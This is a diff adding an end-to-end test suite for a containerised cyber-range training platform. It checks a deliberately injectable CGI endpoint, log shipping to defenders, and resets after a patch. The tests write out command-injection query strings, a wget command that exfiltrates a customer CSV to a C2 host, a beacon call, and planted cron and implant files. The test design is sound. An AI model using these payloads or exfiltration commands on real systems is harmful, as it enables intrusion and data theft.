@@ -1,0 +1,171 @@
+import { AppConfig, loadConfig } from '@app/config';
+import { APP_LABEL_VALUE, DockerEngine, labelKeys, RangeImageBuilder, type ContainerSpec } from '@app/docker';
+import { removeLabelledObjects } from './support/docker-cleanup.js';
+import { freeSubnets } from './support/free-subnets.js';
+
+/** Polls until fn() is true or the deadline passes (the caller asserts the outcome, not the time). */
+async function waitFor(fn: () => Promise<boolean>, timeoutMs: number): Promise<boolean> {
+  const deadline = Date.now() + timeoutMs;
+  while (Date.now() < deadline) {
+    if (await fn()) return true;
+    await new Promise((r) => setTimeout(r, 250));
+  }
+  return false;
+}
+
+describe('Range images on the real engine: injectable web CGI, log server, C2', () => {
+  let config: AppConfig;
+  let engine: DockerEngine;
+  const images: Record<string, string> = {};
+  const ids: Record<string, string> = {};
+  let network: string;
+  const keys = () => labelKeys(config.DOCKER_LABEL_NAMESPACE);
+  const labels = (node: string) => ({
+    [keys().app]: APP_LABEL_VALUE,
+    [keys().instance]: config.INSTANCE_NAME,
+    [keys().kind]: 'e2e-range-images',
+    [keys().node]: node,
+  });
+  const exec = (node: string, argv: string[]) => engine.exec(ids[node]!, argv, { timeoutMs: 30000 });
+
+  // Hardened like a provisioned range node: read-only root, tmpfs /tmp and /run, every capability dropped but a few.
+  const node = (name: string, image: string, capAdd: string[], env: Record<string, string> = {}): ContainerSpec => ({
+    name: `${config.INSTANCE_NAME}-img-${name}`,
+    hostname: name,
+    image: images[image]!,
+    env,
+    labels: labels(name),
+    networks: [{ network, aliases: [name] }],
+    memoryBytes: 64 * 1024 * 1024,
+    nanoCpus: 500_000_000,
+    pidsLimit: 64,
+    capAdd,
+    readOnlyRootfs: true,
+    tmpfs: { '/tmp': 'rw,size=16m', '/run': 'rw,size=16m' },
+  });
+
+  beforeAll(async () => {
+    config = loadConfig();
+    engine = new DockerEngine(config);
+    await engine.connectOrFail();
+    const builder = new RangeImageBuilder(engine, config);
+    const names = ['web', 'logserver', 'attacker', 'workstation', 'c2', 'fileserver', 'router'];
+    const result = await builder.ensureAll(names);
+    for (const image of [...result.built, ...result.present]) images[image.name] = image.reference;
+
+    network = `${config.INSTANCE_NAME}-img-net`;
+    await engine.createNetwork({
+      name: network,
+      bridgeName: `cy${config.INSTANCE_NAME.slice(-8)}i`.slice(0, 15),
+      subnet: (await freeSubnets(engine, 1, 28))[0]!,
+      labels: labels('network'),
+    });
+    const specs = [
+      node('logserver', 'logserver', ['NET_BIND_SERVICE']),
+      node('web', 'web', ['NET_BIND_SERVICE', 'NET_RAW', 'SETUID', 'SETGID'], { LOGSERVER: 'logserver:514', CUSTOMER_FILE: 'kokyaku.csv' }),
+      node('c2', 'c2', [], { C2_PORT: '28443' }),
+      node('attacker', 'attacker', ['NET_RAW']),
+      node('soc', 'workstation', [], { LOGSERVER: 'logserver:514' }),
+    ];
+    for (const spec of specs) {
+      ids[spec.hostname] = await engine.createContainer(spec);
+      await engine.startContainer(ids[spec.hostname]!);
+    }
+    const ready = await waitFor(async () => {
+      const web = await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://web/']);
+      const logs = await exec('logserver', ['sh', '-c', "netstat -ltn | grep -q ':514 '"]);
+      const c2 = await exec('c2', ['sh', '-c', "netstat -ltn | grep -q ':28443 '"]);
+      return web.exitCode === 0 && logs.exitCode === 0 && c2.exitCode === 0;
+    }, 30000);
+    if (!ready) throw new Error('range images did not become ready');
+  });
+
+  afterAll(async () => {
+    await removeLabelledObjects(config);
+    engine.onApplicationShutdown();
+  });
+
+  it('built every range image, tagged by content hash', () => {
+    for (const name of ['web', 'logserver', 'attacker', 'workstation', 'c2', 'fileserver', 'router']) {
+      expect(images[name]).toMatch(new RegExp(`^cyder-range/${name}:[0-9a-f]{12}$`));
+    }
+  });
+
+  it('serves the corporate site from a read-only root', async () => {
+    const page = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/']);
+    expect(page.exitCode).toBe(0);
+    expect(page.stdout).toContain('corporate-site-v1');
+    const write = await exec('web', ['sh', '-c', 'echo x > /srv/www/index.html']);
+    expect(write.exitCode).not.toBe(0);
+  });
+
+  it('runs a command injected through the CGI query parameter, from another container', async () => {
+    // The server evaluates $((6*7)); the page echoing the request back could not show 42 otherwise.
+    const raw = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/cgi-bin/ping?host=127.0.0.1%3Becho%20INJECTED-%24((6*7))']);
+    expect(raw.exitCode).toBe(0);
+    expect(raw.stdout).toMatch(/^INJECTED-42$/m);
+
+    const viaTool = await exec('attacker', ['exploit', 'http://web/cgi-bin/ping', 'host', 'id; hostname']);
+    expect(viaTool.stdout).toContain('uid=0(root)');
+    expect(viaTool.stdout).toMatch(/^web$/m);
+    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(0);
+  });
+
+  it('is no longer injectable once the defenders patch /run/app/ping.sh (the attacker probe fails)', async () => {
+    const patch = await exec('web', ['sh', '-c', "sed -i 's/^eval .*/case \"$host\" in *[!0-9.]*) echo rejected ;; *) ping -c 1 -W 1 \"$host\" ;; esac/' /run/app/ping.sh"]);
+    expect(patch.exitCode).toBe(0);
+    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(1);
+    const page = await exec('soc', ['wget', '-q', '-O', '-', 'http://web/cgi-bin/ping?host=127.0.0.1']);
+    expect(page.stdout).toContain('Network check: 127.0.0.1');
+  });
+
+  it('the log server receives a line sent by another node, and the web server\'s requests', async () => {
+    const marker = `e2e-marker-${Date.now()}`;
+    const sent = await exec('soc', ['sh', '-c', `echo "soc test: ${marker}" | nc -w 1 logserver 514`]);
+    expect(sent.exitCode).toBe(0);
+    const logged = async (pattern: string) =>
+      (await exec('logserver', ['grep', '-c', pattern, '/var/log/remote/all.log'])).exitCode === 0;
+    expect(await waitFor(() => logged(marker), 15000)).toBe(true);
+    // Shipped from web's syslog: the injection attempts are there for the defenders to find.
+    expect(await waitFor(() => logged('webapp: ping request from .*host=127.0.0.1;id; hostname'), 15000)).toBe(true);
+  });
+
+  it('the C2 records an exfiltrated file and a beacon', async () => {
+    const payload = await exec('web', ['sh', '-c', 'wget -q -O - --post-file=/run/data/kokyaku.csv http://c2:28443/upload/kokyaku.csv; wget -q -O - "http://c2:28443/beacon?id=abc"']);
+    expect(payload.stdout).toContain('ok');
+    const events = await exec('c2', ['sh', '-c', 'cat /run/c2/events.log /run/c2/beacons.log; cat /run/c2/loot/*']);
+    expect(events.stdout).toMatch(/upload \/upload\/kokyaku\.csv bytes=\d+/);
+    expect(events.stdout).toContain('beacon /beacon?id=abc');
+    expect(events.stdout).toContain('customer_id,name,email');
+  });
+
+  it('a restart brings the web node back to T0: defacement, cron entry, dropped file and patch are gone', async () => {
+    const tamper = await exec('web', ['sh', '-c', 'echo defaced > /run/www/index.html && echo "* * * * * true" | crontab - && mkdir -p /tmp/.cache && touch /tmp/.cache/implant']);
+    expect(tamper.exitCode).toBe(0);
+    await engine.restartContainer(ids.web!, 1);
+    expect(await waitFor(async () => (await exec('soc', ['wget', '-q', '-O', '/dev/null', 'http://web/'])).exitCode === 0, 20000)).toBe(true);
+    expect((await exec('soc', ['wget', '-q', '-O', '-', 'http://web/'])).stdout).toContain('corporate-site-v1');
+    expect((await exec('web', ['crontab', '-l'])).exitCode).not.toBe(0);
+    expect((await exec('web', ['test', '-e', '/tmp/.cache/implant'])).exitCode).toBe(1);
+    // The CGI patched in an earlier test is vulnerable again: T0 of the scenario.
+    expect((await exec('attacker', ['probe-injection', 'http://web/cgi-bin/ping', 'host'])).exitCode).toBe(0);
+  });
+
+  it('gives defenders pgrep/pkill (busybox-static has neither) that never match their own shell', async () => {
+    await exec('web', ['sh', '-c', 'sleep 300 >/dev/null 2>&1 &']);
+    const found = await exec('web', ['pgrep', '-f', 'sleep 300']);
+    expect(found.exitCode).toBe(0);
+    expect(found.stdout.trim()).toMatch(/^\d+$/);
+    const killed = await exec('web', ['sh', '-c', 'pkill -f "sleep 300" && sleep 0.2 && ! pgrep -f "sleep 300"']);
+    expect(killed.exitCode).toBe(0);
+  });
+
+  it('every node\'s PID 1 exits cleanly on SIGTERM (no kill after the stop timeout)', async () => {
+    for (const name of ['web', 'logserver', 'c2', 'attacker', 'soc']) {
+      const container = engine.docker.getContainer(ids[name]!);
+      await container.stop({ t: 20 });
+      const state = (await container.inspect()).State;
+      expect({ name, exitCode: state.ExitCode, oomKilled: state.OOMKilled }).toEqual({ name, exitCode: 0, oomKilled: false });
+    }
+  });
+});
